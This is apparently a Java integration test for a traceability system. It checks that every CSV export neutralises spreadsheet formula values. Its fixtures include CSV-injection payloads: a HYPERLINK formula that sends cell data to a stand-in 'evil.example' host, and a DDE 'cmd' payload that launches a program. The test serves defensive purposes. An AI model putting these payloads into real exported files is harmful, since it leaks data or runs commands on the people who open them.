package org.unitrace.core.aftersales;

import static org.assertj.core.api.Assertions.assertThat;
import static org.unitrace.core.support.Rest.created;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.http.HttpStatus;
import org.springframework.http.ResponseEntity;
import org.unitrace.contract.EventPayload;
import org.unitrace.core.imports.Csv;
import org.unitrace.core.support.Bodies;

/**
 * Values that a spreadsheet runs as formulas ({@code =HYPERLINK}, {@code +}, {@code -}, {@code @})
 * come in the real ways (the sales and shipment CSV imports, a customer's name and address, a
 * line's serials and run id) and every CSV export gives them back neutralised: a single quote in
 * front, the cell quoted. Numbers stay numbers.
 */
class CsvFormulaIT extends AfterSalesFixture {

  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")";
  private static final String PLUS = "+1+cmd|' /C calc'!A0";
  private static final String MINUS = "-2+3";
  private static final String AT = "@SUM(1+1)";
  private static final String RUN = "=1+2";

  @Test
  void everyCsvExportGivesFormulasBackNeutralised() {
    String evil = "C2-" + p;
    created(
        post(
            "/api/customers",
            Map.of(
                "reference",
                evil,
                "name",
                HYPERLINK,
                "addresses",
                List.of(
                    Map.of("label", "delivery", "street", MINUS, "city", AT, "country", "NZ")))));
    String lot = p + "-LOT";
    String sold = made("-" + p + "-1", lot); // serials may start with - or + (GS1 CSET 82)
    String shipped = made("+" + p + "-2", lot);
    String moved = made("=" + p + "-3", lot);

    created(
        postCsv(
            "/api/sales",
            "orderNumber,orderLine,customer,soldOn,serial\n%s,10,%s,2026-11-27,%s\n"
                .formatted(quoted(HYPERLINK), evil, sold)));
    JsonNode shipments =
        created(
            postCsv(
                "/api/shipments",
                "shipment,shipToCustomer,carrier,trackingRef,package,packageKind,serial\n"
                    + "SH-%s,%s,%s,%s,%s,PALLET,%s\n"
                        .formatted(p, evil, quoted(PLUS), AT, MINUS, shipped)));
    JsonNode transfers =
        created(
            postCsv(
                "/api/transfers", "serial,from,to\n%s,%s,%s\n".formatted(moved, warehouse, bin)));
    long recall =
        created(post("/api/recalls", Bodies.sealLotRecall(lot, "formula test")))
            .path("recall")
            .path("id")
            .asLong();

    List<Csv.Row> sales = export("/api/sales/csv?customer=" + evil, "orderNumber", "serial");
    assertThat(sales).hasSize(1);
    assertThat(sales.get(0).fields().get("orderNumber")).isEqualTo("'" + HYPERLINK);
    assertThat(sales.get(0).fields().get("serial")).isEqualTo("'" + sold);
    assertThat(sales.get(0).fields().get("orderLine")).isEqualTo("10");

    List<Csv.Row> shipment =
        export("/api/shipments/" + shipments.get(0).path("id").asLong() + "/csv", "serial");
    assertThat(shipment.get(0).fields())
        .containsEntry("carrier", "'" + PLUS)
        .containsEntry("trackingRef", "'" + AT)
        .containsEntry("package", "'" + MINUS)
        .containsEntry("serial", "'" + shipped);

    List<Csv.Row> transfer =
        export("/api/transfers/" + transfers.get(0).path("id").asLong() + "/csv", "serial");
    assertThat(transfer.get(0).fields()).containsEntry("serial", "'" + moved);

    List<Csv.Row> notification =
        export("/api/recalls/" + recall + "/notification.csv", "customerName", "serial");
    assertThat(notification)
        .extracting(r -> r.fields().get("serial"))
        .containsExactlyInAnyOrder("'" + sold, "'" + shipped);
    assertThat(notification)
        .allSatisfy(
            r ->
                assertThat(r.fields())
                    .containsEntry("customerName", "'" + HYPERLINK)
                    .containsEntry("street", "'" + MINUS)
                    .containsEntry("city", "'" + AT));

    List<Csv.Row> units = export("/api/recalls/" + recall + "/units.csv", "serial");
    assertThat(units)
        .extracting(r -> r.fields().get("serial"))
        .containsExactlyInAnyOrder("'" + sold, "'" + shipped, "'" + moved);

    List<Csv.Row> whereUsed =
        export("/api/dashboard/where-used.csv?partNumber=SEAL-3&lot=" + lot, "serial", "runId");
    assertThat(whereUsed).extracting(r -> r.fields().get("runId")).containsOnly("'" + RUN);
    assertThat(whereUsed).extracting(r -> r.fields().get("depth")).containsOnly("1");
  }

  /** A unit made on the line with run {@link #RUN} and a seal of {@code lot}, completed. */
  private String made(String serial, String lot) {
    postStored(
        List.of(
            events.serialized(serial, product, RUN),
            events.boundLot(serial, "SEAL-3", lot, "Acme"),
            events.status(serial, EventPayload.UnitStatus.COMPLETED)));
    return serial;
  }

  /**
   * The export as rows, after checking that no cell of it (header included) would run: none starts
   * with = + - @, a tab or a CR unless behind the quote that neutralises it.
   */
  private List<Csv.Row> export(String path, String... required) {
    ResponseEntity<String> answer = http.getForEntity(path, String.class);
    assertThat(answer.getStatusCode()).as(path + ": " + answer.getBody()).isEqualTo(HttpStatus.OK);
    assertThat(answer.getHeaders().getContentType().toString()).startsWith("text/csv");
    List<Csv.Row> rows = Csv.parse(answer.getBody(), List.of(required));
    assertThat(rows).as(path).isNotEmpty();
    List<String> cells = new ArrayList<>(rows.get(0).fields().keySet());
    rows.forEach(r -> cells.addAll(r.fields().values()));
    for (String cell : cells) {
      assertThat(cell).as(path + " cell").doesNotStartWith("=").doesNotStartWith("+");
      assertThat(cell).as(path + " cell").doesNotStartWith("@").doesNotStartWith("\t");
      assertThat(cell).as(path + " cell").doesNotStartWith("\r");
      if (cell.startsWith("-")) {
        assertThat(cell).as(path + " cell").matches("-\\d+(\\.\\d+)?"); // a number, not text
      }
    }
    return rows;
  }

  private static String quoted(String value) {
    return "\"" + value.replace("\"", "\"\"") + "\"";
  }
}
